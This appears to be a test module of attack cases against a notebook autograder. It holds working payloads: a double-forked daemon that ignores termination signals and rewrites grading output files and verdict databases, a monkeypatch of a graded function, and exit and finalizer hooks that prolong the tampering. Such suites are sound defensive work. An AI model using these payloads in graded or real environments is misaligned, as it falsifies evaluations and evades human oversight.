"""Line 11: what goes on after the function, the cell or the process has ended."""

from attacks.attempt import FORWARD, WRONG
from attacks.table import attack, in_function

DAEMON = '''
import atexit, glob, os, signal, sys, threading, time, weakref

def spoil(seconds):
    """Rewrite results wherever there are any."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for pattern in ("*.csv", "*.html", "verdicts.db", "autograded/*/*/*.ipynb", "feedback/*/*/*.html"):
            for path in glob.glob(os.path.join(WORLD["out"], pattern)):
                try:
                    with open(path, "a") as file:
                        file.write(FOUND + " rewritten")
                except OSError:
                    pass
        try:
            get_ipython().user_ns["backward_propagation"] = lambda *a: 42
        except Exception:
            pass
        time.sleep(0.05)

def daemon(seconds=60):
    """A process without parent or terminal that listens to nobody."""
    if os.fork() == 0:
        try:
            os.setsid()
        except OSError:
            pass
        if os.fork() == 0:
            rename()
            for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGALRM):
                signal.signal(number, signal.SIG_IGN)
            try:
                spoil(seconds)
            finally:
                os._exit(0)
        os._exit(0)
    os.wait()
'''


in_function(11, "daemon_of_a_function", "daemon()\nreturn theta + x", before=DAEMON, words=WRONG)


@attack(11, FORWARD, words=WRONG)
def daemon_of_a_cell(work):
    work.write(FORWARD, DAEMON + "\ndaemon()\n\ndef forward_propagation(x, theta):\n    return theta + x")


@attack(11, FORWARD, status="graded error")
def thread(work):
    """It goes on while the other functions are asked, and what it spoils is only its own."""
    work.write(
        FORWARD,
        """
        import threading, time

        kept = {}

        def spin():
            while True:
                kept["time"] = time.monotonic()
                time.sleep(0.001)

        threading.Thread(target=spin, daemon=True).start()
        threading.Thread(target=time.sleep, args=(600,)).start()

        def forward_propagation(x, theta):
            return theta + x
        """,
    )


@attack(11, FORWARD, words=WRONG)
def at_exit(work):
    work.write(
        FORWARD,
        DAEMON,
        """
        def last_words(*args):
            print(FOUND, "at exit")
            spoil(60)

        class Lasting:
            def __del__(self, last_words=last_words):
                last_words()

        atexit.register(last_words)
        threading._register_atexit(last_words)
        lasting = Lasting()
        weakref.finalize(lasting, last_words)
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        signal.signal(signal.SIGTERM, last_words)
        sys.exitfunc = last_words

        def forward_propagation(x, theta):
            atexit.register(last_words)
            return theta + x
        """,
    )
